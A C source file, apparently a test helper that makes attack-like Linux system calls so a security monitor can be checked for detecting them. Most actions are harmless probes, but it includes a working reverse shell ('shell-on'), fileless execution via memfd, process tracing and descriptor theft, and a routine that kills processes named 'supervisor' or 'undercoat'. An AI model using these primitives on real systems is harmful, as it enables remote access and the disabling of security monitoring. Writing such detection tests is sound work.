// Does, by its first argument, what attacks do and usual programs do not. Built dynamic and static; tool.go has the calls that Go can
// make. usage: tool WHAT [ARGUMENT...], see `actions` at the end.
//
// Must stay true: it changes nothing outside what its arguments name, and loads nothing that does anything.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

extern char** environ;

static int done(const char* what, long result) {
    if (result < 0) perror(what);
    return result < 0;
}

static int run(char** a) {
    const pid_t child = fork();
    if (child == 0) {
        execvp(a[0], a);
        _exit(127);
    }
    int status = 0;
    waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

static struct sockaddr_in address_of(const char* ip, const char* port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    inet_pton(AF_INET, ip, &to.sin_addr);
    return to;
}

static int catch(char** a) {
    const struct sockaddr_in at = address_of("127.0.0.1", a[0]);
    const int one = 1, s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (const struct sockaddr*)&at, sizeof at) || listen(s, 4)) return done("listen", -1);
    const int peer = accept(s, NULL, NULL);
    shutdown(peer, SHUT_WR);
    char buffer[256];
    while (read(peer, buffer, sizeof buffer) > 0) continue;
    return 0;
}

// Does not wait for addresses that nobody has.
static int connected(char** a, int flags) {
    const struct sockaddr_in to = address_of(a[0], a[1]);
    const int s = socket(AF_INET, SOCK_STREAM | flags, 0);
    return connect(s, (const struct sockaddr*)&to, sizeof to) && errno != EINPROGRESS ? -1 : s;
}

static int connect_to(char** a) { return done("connect", connected(a, SOCK_NONBLOCK)); }

static int connect_unix(char** a) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strncpy(to.sun_path, a[0], sizeof to.sun_path - 1);
    connect(socket(AF_UNIX, SOCK_STREAM, 0), (const struct sockaddr*)&to, sizeof to);
    return 0;
}

static int catch_unix(char** a) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    strncpy(at.sun_path, a[0], sizeof at.sun_path - 1);
    const int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(s, (const struct sockaddr*)&at, sizeof at) || listen(s, 4)) return done("listen", -1);
    return done("accept", accept(s, NULL, NULL));
}

static int shell_on(char** a) {
    const int s = connected(a, 0);
    if (s < 0) return done("connect", s);
    for (int i = 0; i < 3; ++i) dup2(s, i);
    execl("/bin/sh", "sh", (char*)NULL);
    return 127;
}

static int read_file(char** a) {
    char buffer[4096];
    const int fd = open(a[0], O_RDONLY);
    return done(a[0], fd < 0 ? fd : (read(fd, buffer, sizeof buffer), 0));
}

static int write_file(char** a) { return done(a[0], open(a[0], O_WRONLY | O_CREAT | O_TRUNC, 0644)); }

static int append_file(char** a) {
    const int fd = open(a[0], O_WRONLY | O_APPEND);
    return done(a[0], fd < 0 ? fd : write(fd, a[1], strlen(a[1])));
}

static int unlink_file(char** a) { return done(a[0], unlink(a[0])); }

static int copy_into(int to, const char* from) {
    const int fd = open(from, O_RDONLY);
    char buffer[65536];
    for (ssize_t n; (n = read(fd, buffer, sizeof buffer)) > 0;)
        if (write(to, buffer, (size_t)n) != n) return -1;
    return close(fd);
}

static int memfd(char** a) {
    const int fd = memfd_create("memory", MFD_CLOEXEC);
    if (fd < 0 || copy_into(fd, a[0])) return done("memfd", -1);
    fexecve(fd, a, environ);
    return done("fexecve", -1);
}

static int memfd_data(char** a) {
    (void)a;
    const int fd = memfd_create("data", MFD_CLOEXEC);
    return done("memfd", write(fd, "data", 4));
}

static int trace(char** a) {
    const pid_t pid = atoi(a[0]);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return done("ptrace", -1);
    return done("detach", ptrace(PTRACE_INTERRUPT, pid, 0, 0) || waitpid(pid, NULL, __WALL) < 0 ||
                              ptrace(PTRACE_DETACH, pid, 0, 0) ? -1 : 0);
}

// At address 0, where nothing is: the call is made and fails.
static int write_memory(char** a) {
    char byte = 0;
    const struct iovec mine = {&byte, 1}, other = {NULL, 1};
    process_vm_writev(atoi(a[0]), &mine, 1, &other, 1, 0);
    return 0;
}

static int take_descriptor(char** a) {
    const long pidfd = syscall(SYS_pidfd_open, atoi(a[0]), 0);
    return done("pidfd_getfd", pidfd < 0 ? pidfd : syscall(SYS_pidfd_getfd, pidfd, atoi(a[1]), 0));
}

static int serve_faults(char** a) {
    const uid_t uid = (uid_t)atoi(a[0]);
    if (uid && setresuid(uid, uid, uid)) return done("setresuid", -1);
    syscall(SYS_userfaultfd, O_CLOEXEC);
    return 0;
}

static int rings(char** a) {
    (void)a;
    char parameters[256] = {0};
    syscall(SYS_io_uring_setup, 4, parameters);
    return 0;
}

static int bpf_map(char** a) {
    (void)a;
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map);
    return 0;
}

// r0 = 0; exit: a filter that is attached to nothing.
static int bpf_program(char** a) {
    (void)a;
    const struct bpf_insn code[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K}, {.code = BPF_JMP | BPF_EXIT}};
    union bpf_attr program = {.prog_type = BPF_PROG_TYPE_SOCKET_FILTER, .insns = (uint64_t)(uintptr_t)code, .insn_cnt = 2,
                              .license = (uint64_t)(uintptr_t)"GPL"};
    syscall(SYS_bpf, BPF_PROG_LOAD, &program, sizeof program);
    return 0;
}

// Not a module, and refused as such.
static int load_module(char** a) {
    (void)a;
    syscall(SYS_init_module, "no module", 9, "");
    return 0;
}

static int open_socket(char** a) {
    if (!strcmp(a[0], "packet")) return done("socket", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
    return done("socket", socket(AF_INET, SOCK_STREAM, 0));
}

static int enter(char** a) { return done("setns", setns(open(a[0], O_RDONLY), 0)); }

static int new_user(char** a) {
    (void)a;
    unshare(CLONE_NEWUSER);
    return 0;
}

// A disk that no machine has.
static int block_node(char** a) { return done("mknod", mknod(a[0], S_IFBLK | 0600, makedev(240, 255))); }

static int by_handle(char** a) {
    struct {
        struct file_handle head;
        char bytes[MAX_HANDLE_SZ];
    } handle = {.head.handle_bytes = MAX_HANDLE_SZ};
    int mount = 0;
    name_to_handle_at(AT_FDCWD, a[0], &handle.head, &mount, 0);
    open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY), &handle.head, O_RDONLY);
    return 0;
}

static int kill_agents(char** a) {
    (void)a;
    DIR* all = opendir("/proc");
    for (struct dirent* d; all && (d = readdir(all));) {
        char path[300], name[32] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", d->d_name);
        const int fd = atoi(d->d_name) > 0 ? open(path, O_RDONLY) : -1;
        if (fd < 0 || read(fd, name, sizeof name - 1) < 0) continue;
        close(fd);
        if (strcmp(name, "supervisor\n") && strcmp(name, "undercoat\n")) continue;
        kill(atoi(d->d_name), SIGKILL);
        ptrace(PTRACE_SEIZE, atoi(d->d_name), 0, 0);
    }
    return 0;
}

static int wait_some(char** a) { return (int)sleep((unsigned)atoi(a[0])); }

static const struct {
    const char* name;
    int arguments;
    int (*act)(char** arguments);
} actions[] = {
    {"run", 1, run}, {"catch", 1, catch}, {"catch-unix", 1, catch_unix}, {"connect", 2, connect_to}, {"connect-unix", 1, connect_unix}, {"shell-on", 2, shell_on},
    {"read", 1, read_file}, {"write", 1, write_file}, {"append", 2, append_file}, {"unlink", 1, unlink_file}, {"memfd", 1, memfd},
    {"memfd-data", 0, memfd_data}, {"ptrace", 1, trace}, {"vmwrite", 1, write_memory}, {"getfd", 2, take_descriptor},
    {"userfaultfd", 1, serve_faults}, {"io-uring", 0, rings}, {"bpf-map", 0, bpf_map}, {"bpf-program", 0, bpf_program},
    {"init-module", 0, load_module}, {"socket", 1, open_socket}, {"setns", 1, enter}, {"unshare-user", 0, new_user},
    {"mknod-blk", 1, block_node}, {"handle", 1, by_handle}, {"kill-agents", 0, kill_agents}, {"sleep", 1, wait_some},
};

int main(int argc, char** argv) {
    for (size_t i = 0; argc > 1 && i < sizeof actions / sizeof *actions; ++i)
        if (!strcmp(argv[1], actions[i].name) && argc - 2 >= actions[i].arguments) return actions[i].act(argv + 2);
    fprintf(stderr, "tool: no such action, or arguments are missing\n");
    return 2;
}
